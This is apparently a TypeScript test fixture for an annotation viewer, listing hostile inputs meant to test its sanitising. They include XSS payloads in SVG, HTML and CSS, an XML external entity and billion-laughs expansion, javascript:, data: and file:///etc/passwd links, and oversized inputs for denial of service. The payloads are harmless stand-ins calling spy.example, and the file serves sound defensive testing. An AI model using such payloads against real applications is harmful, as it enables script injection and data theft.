import { ANNOTATED, CANVAS, note, selected, words } from '../annotated'

// Annotations that mean harm, or are none. Each says its name, by which it is found in the list.

const SPY = 'https://spy.example'
const RUN = 'globalThis.ran = 1'
const inSvg = (content: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg"${more}>${content}</svg>`
const RECT = '<rect x="10" y="20" width="30" height="40"/>'
const points = Array.from({ length: 200_000 }, (_, index) => `${index % 600},${index % 800}`).join(' ')
const laughs = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('')
const refined = (depth: number): object => ({
  type: 'FragmentSelector',
  value: 'xywh=1,1,9,9',
  ...(depth > 0 && { refinedBy: refined(depth - 1) }),
})

const svg = (name: string, value: string) =>
  [name, { body: words(name), target: selected({ type: 'SvgSelector', value }) }] as const
const part = (name: string, selector: unknown) =>
  [name, { body: words(name), target: selected(selector as object) }] as const
const html = (name: string, value: string) =>
  [name, { body: words(`<p>${name}</p>${value}`, { format: 'text/html' }) }] as const
const styled = (name: string, value: string) =>
  [
    name,
    {
      body: { ...words(name), type: 'TextualBody' },
      stylesheet: { type: 'CssStylesheet', value },
      target: { ...selected({ type: 'FragmentSelector', value: 'xywh=9,9,9,9' }), styleClass: 'bad' },
    },
  ] as const
const linked = (name: string, body: object) =>
  [name, { label: { en: [name] }, body: [words(name), body], motivation: 'linking' }] as const

/** Annotations by their names. */
export const HOSTILE: readonly (readonly [name: string, annotation: object])[] = [
  svg('SVG with a script', inSvg(`<script>${RUN}</script>${RECT}`)),
  svg('SVG with a handler', inSvg(RECT, ` onload="${RUN}"`)),
  svg('SVG with an entity elsewhere', `<!DOCTYPE svg [<!ENTITY e SYSTEM "${SPY}/e">]>${inSvg(`&e;${RECT}`)}`),
  svg('SVG with entities of entities', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${inSvg('&l9;')}`),
  svg('SVG with a foreign object', inSvg(`<foreignObject><iframe src="${SPY}/f"/></foreignObject>`)),
  svg('SVG with a picture', inSvg(`<image href="${SPY}/i.png"/><use href="${SPY}/u.svg#a"/>`)),
  svg('SVG with a style', inSvg(`<style>@import "${SPY}/s.css"; rect{fill:url(${SPY}/f)}</style>${RECT}`)),
  svg('SVG of a million numbers', inSvg(`<polygon points="${points}"/>`)),
  svg('SVG with a path of no numbers', inSvg('<path d="M1e99,1e99 L NaN Infinity z"/>')),
  svg('SVG that does not end', '<svg><g><rect x="1" y="1"'),
  svg('SVG that is moved', inSvg(`<g transform="scale(1e9)">${RECT}</g>`)),
  svg('SVG that is no text', 7 as unknown as string),
  part('A box beyond the canvas', { type: 'FragmentSelector', value: 'xywh=5000,-900,100,100' }),
  part('A box without a size', { type: 'FragmentSelector', value: 'xywh=5,5,0,-3' }),
  part('A box of words', { type: 'FragmentSelector', value: 'xywh=percent:a,b,c,d' }),
  part('A box of endless numbers', { type: 'FragmentSelector', value: `xywh=${'9'.repeat(400)},1,1,1` }),
  part('A selector in itself', refined(500)),
  part('A point that is none', { type: 'PointSelector', x: 'left', y: null }),
  part('A time that is none', { type: 'FragmentSelector', value: 't=NaN,-Infinity' }),
  part('A selector that is none', [null, 3, [], { type: {} }]),
  html('HTML with handlers', `<p onclick="${RUN}"><img src="${SPY}/a.png" onerror="${RUN}"></p>`),
  html('HTML with a script', `<script>${RUN}</script><script src="${SPY}/x.js"></script>`),
  html('HTML with frames', `<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="${SPY}/f">`),
  html('HTML with a link of script', `<a href="javascript:${RUN}">Follow</a>`),
  html('HTML with a link of data', `<a href="data:text/html,<script>${RUN}</script>">Follow</a>`),
  html('HTML with a form', `<form action="${SPY}/form"><input autofocus onfocus="${RUN}"></form>`),
  html('HTML that leads away', `<meta http-equiv="refresh" content="0;url=${SPY}"><base href="${SPY}/">`),
  html('HTML with objects', `<object data="${SPY}/o"></object><embed src="${SPY}/e"><video src="${SPY}/v">`),
  html('HTML with SVG', `<svg onload="${RUN}"><script>${RUN}</script><image href="${SPY}/i"/></svg>`),
  html('HTML over the controls', '<div style="position:fixed;inset:0;z-index:99999;background:#f00">x</div>'),
  html(
    'HTML with styles',
    `<link rel="stylesheet" href="${SPY}/s.css"><style>@import "${SPY}/t.css"</style>`,
  ),
  html('HTML in HTML', '<div>'.repeat(20_000)),
  html('HTML in half a comment', `<!--><img src="${SPY}/c.png" onerror="${RUN}"><!--`),
  ['A word that does not end', { body: words(`A word that does not end ${'w'.repeat(500_000)}`) }],
  styled('CSS that loads', `@import "${SPY}/s.css"; .bad { background: url(${SPY}/b.png) }`),
  styled('CSS over the controls', '.bad { position: fixed; inset: 0; z-index: 99999; background: red }'),
  styled('CSS that breaks out', `.bad { color: red } </style><script>${RUN}</script>`),
  styled('CSS with a script', `.bad { width: expression(${RUN}); behavior: url(${SPY}/b.htc) }`),
  styled('CSS that does not end', `.bad { color: ${'('.repeat(50_000)}`),
  linked('A picture of script', { id: `javascript:${RUN}`, type: 'Image', format: 'image/png' }),
  linked('A page on the disk', { id: 'file:///etc/passwd', type: 'Text', format: 'text/html' }),
  linked('A sound of data', { id: `data:text/html,<script>${RUN}</script>`, type: 'Sound' }),
]

/** Items of a list that are no annotations of this page, or none at all. */
export const NONE: readonly unknown[] = [
  null,
  7,
  'words',
  [],
  {},
  { id: 'x', type: 'Annotation', motivation: { a: 1 }, body: [null, 7, { value: 3 }], target: [[], 'x'] },
  { ...note('proto', {}), __proto__: { target: CANVAS }, target: { constructor: 'x' } },
]

/** Lists that lead in a circle, or nowhere, by their paths. */
export const LISTS: Readonly<Record<string, object | number>> = {
  'itself.json': {
    ...{ id: `${ANNOTATED}/itself.json`, type: 'AnnotationPage', next: `${ANNOTATED}/itself.json` },
    items: [note('itself', { body: words('Said by a list that leads to itself') })],
  },
  'circle.json': {
    ...{ id: `${ANNOTATED}/circle.json`, type: 'AnnotationPage', next: `${ANNOTATED}/back.json` },
    items: [note('circle', { body: words('Said in a circle') })],
  },
  'back.json': {
    ...{ id: `${ANNOTATED}/back.json`, type: 'AnnotationPage', next: `${ANNOTATED}/circle.json` },
    items: [],
  },
  'strangers.json': {
    ...{ id: `${ANNOTATED}/strangers.json`, type: 'AnnotationPage' },
    items: ['1', '2'].map(id => note(id, { body: words('Strange'), target: `https://other.example/${id}` })),
  },
  'refused.json': 403,
  'number.json': { type: 'AnnotationPage', items: 7, next: 'javascript:globalThis.ran = 1' },
}

/** Files that are opened as notes: their content, and what the reader is told. */
export const FILES: readonly (readonly [name: string, content: string, answer: string])[] = [
  ['no JSON', 'words', 'holds no notes that can be read'],
  ['a picture', '\u0089PNG\r\n\u001a\n', 'holds no notes that can be read'],
  ['a manifest', JSON.stringify({ type: 'Manifest', items: [{ type: 'Canvas' }] }), 'holds no notes'],
  ['lists in lists', `${'['.repeat(5000)}${']'.repeat(5000)}`, 'holds no notes that can be read'],
  [
    'an empty page',
    JSON.stringify({ type: 'AnnotationPage', items: [] }),
    'There are no notes in this file.',
  ],
  [
    'good and bad ones',
    JSON.stringify({
      type: 'AnnotationPage',
      items: [
        null,
        note('good', { body: words('A good note') }),
        note('bad', { body: words(`<img src="${SPY}/i" onerror="${RUN}">`, { format: 'text/html' }) }),
      ],
    }),
    '2 notes added.',
  ],
]
